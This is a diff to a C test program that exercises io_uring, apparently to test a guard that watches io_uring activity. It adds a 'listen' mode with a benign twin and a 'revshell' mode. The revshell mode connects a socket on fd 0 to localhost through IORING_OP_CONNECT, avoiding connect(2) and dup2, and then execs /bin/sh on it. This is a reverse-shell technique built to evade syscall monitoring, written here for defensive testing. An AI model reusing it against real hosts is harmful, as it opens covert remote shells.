@@ -9,16 +9,30 @@
  *   guarduring threads PATH N  N threads with a ring each, 20 NOPs each, all at once
  *   guarduring exec PATH N     `write`, then exec of itself for `write` again (a new
  *                              process image in the same process)
+ *   guarduring listen - 1      a TCP socket bound to 127.0.0.1 (syscalls), listening
+ *                              through IORING_OP_LISTEN (6.11+; "nolisten" and exit 0 when
+ *                              the kernel refuses it), then a child runs /bin/sh -c true;
+ *                              prints "child PID"
+ *   guarduring listen - 0      the same without the listen (the benign twin)
+ *   guarduring revshell PORT 0 fd 0 closed, a TCP socket made (it is fd 0) and connected
+ *                              to 127.0.0.1:PORT through IORING_OP_CONNECT (no connect(2),
+ *                              no dup2), then exec of /bin/sh -c 'echo done': a shell
+ *                              reading from a socket
  * Every result is checked; the fd opened through io_uring is printed ("opened FD") and
  * closed with close(2). Prints "done" and exits.
  */
+#include <arpa/inet.h>
+#include <errno.h>
 #include <fcntl.h>
 #include <liburing.h>
 #include <pthread.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
 #include <sys/uio.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #define CHECK(x)                                                  \
@@ -127,13 +141,69 @@ static void do_threads(int n)
 		CHECK(!pthread_join(t[i], NULL));
 }
 
+#define OP_LISTEN 57	/* IORING_OP_LISTEN (6.11), newer than Debian 12's liburing */
+
+static void do_listen(int really)
+{
+	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	struct io_uring ring;
+	int fd, res, st;
+	pid_t child;
+
+	fd = socket(AF_INET, SOCK_STREAM, 0);
+	CHECK(fd >= 0 && !bind(fd, (struct sockaddr *)&a, sizeof(a)));
+	CHECK(!io_uring_queue_init(8, &ring, 0));
+	if (really) {
+		io_uring_prep_rw(OP_LISTEN, io_uring_get_sqe(&ring), fd, NULL, 4, 0);
+		res = run(&ring);
+		if (res == -EINVAL || res == -EOPNOTSUPP) {
+			printf("nolisten\n");
+			exit(0);
+		}
+		CHECK(res == 0);
+	} else {
+		io_uring_prep_nop(io_uring_get_sqe(&ring));
+		CHECK(run(&ring) == 0);
+	}
+	fflush(stdout);
+	child = fork();
+	CHECK(child >= 0);
+	if (!child) {
+		execl("/bin/sh", "sh", "-c", "true", (char *)NULL);
+		_exit(127);
+	}
+	CHECK(waitpid(child, &st, 0) == child && WIFEXITED(st) && !WEXITSTATUS(st));
+	printf("child %d\n", (int)child);
+	io_uring_queue_exit(&ring);
+	close(fd);
+}
+
+static void do_revshell(int port)
+{
+	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port),
+				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	struct io_uring ring;
+
+	CHECK(!io_uring_queue_init(8, &ring, 0));
+	CHECK(!close(0));
+	CHECK(socket(AF_INET, SOCK_STREAM, 0) == 0);
+	io_uring_prep_connect(io_uring_get_sqe(&ring), 0, (struct sockaddr *)&a, sizeof(a));
+	CHECK(run(&ring) == 0);
+	io_uring_queue_exit(&ring);
+	printf("connected\n");
+	fflush(stdout);
+	execl("/bin/sh", "sh", "-c", "echo done", (char *)NULL);
+	perror("execl");
+	exit(1);
+}
+
 int main(int argc, char **argv)
 {
 	char line[16];
 	int n;
 
 	if (argc != 4 && !(argc == 5 && !strcmp(argv[4], "again"))) {
-		fprintf(stderr, "usage: guarduring write|read|threads|exec PATH N\n");
+		fprintf(stderr, "usage: guarduring write|read|threads|exec|listen|revshell PATH N\n");
 		return 2;
 	}
 	n = atoi(argv[3]);
@@ -149,6 +219,10 @@ int main(int argc, char **argv)
 		do_read(argv[2], n);
 	else if (!strcmp(argv[1], "threads"))
 		do_threads(n);
+	else if (!strcmp(argv[1], "listen"))
+		do_listen(n);
+	else if (!strcmp(argv[1], "revshell"))
+		do_revshell(atoi(argv[2]));
 	else
 		return 2;
 	if (!strcmp(argv[1], "exec")) {
